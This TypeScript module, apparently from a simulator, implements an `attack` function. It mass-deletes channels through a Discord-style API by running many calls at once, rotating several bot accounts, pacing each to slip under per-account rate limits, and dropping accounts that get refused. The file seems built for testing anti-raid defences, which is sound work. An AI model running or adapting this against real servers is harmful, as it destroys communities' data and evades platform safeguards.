import type { Target } from './target.ts';

/** `atOnce`: calls that are under way at any moment. `isPaced`: keeps to the platform's usual bucket. */
export type Pace = { atOnce: number; isPaced: boolean };

export type Strike = { channelId: string; sentAtMs: number; answeredAtMs: number; status: number };

/** Of one account. The simulator counts each channel's bucket by itself, so the attacker keeps it. */
const usualBucket = { calls: 5, perMs: 5000 };

/** Deletes channels, so many calls at a time and by each account in turn, until the platform refuses all. */
export const attack = async (
  apiUrl: string,
  { attackerIds, channelIds }: Target,
  { atOnce, isPaced }: Pace,
): Promise<Strike[]> => {
  const left = [...channelIds];
  const able = [...attackerIds];
  const strikes: Strike[] = [];
  const used = new Map<string, number>();
  let turn = 0;
  const strikeOn = async () => {
    for (;;) {
      const attackerId = able[turn++ % able.length];
      const channelId = attackerId && left.shift();
      if (!channelId) return;
      const calls = used.get(attackerId) ?? 0;
      used.set(attackerId, calls + 1);
      if (isPaced && calls > 0 && calls % usualBucket.calls === 0) {
        await Bun.sleep(usualBucket.perMs);
      }
      const strike = await strikeOnce(apiUrl, attackerId, channelId);
      strikes.push(strike);
      if (strike.status === 403 && able.includes(attackerId))
        able.splice(able.indexOf(attackerId), 1);
    }
  };
  await Promise.all(Array.from({ length: atOnce }, strikeOn));
  return strikes;
};

const strikeOnce = async (apiUrl: string, attackerId: string, channelId: string) => {
  const headers = { authorization: `Bot ${btoa(attackerId)}.token-value` };
  const sentAtMs = Date.now();
  const reply = await fetch(`${apiUrl}/v10/channels/${channelId}`, { method: 'DELETE', headers });
  await reply.arrayBuffer();
  return { channelId, sentAtMs, answeredAtMs: Date.now(), status: reply.status };
};
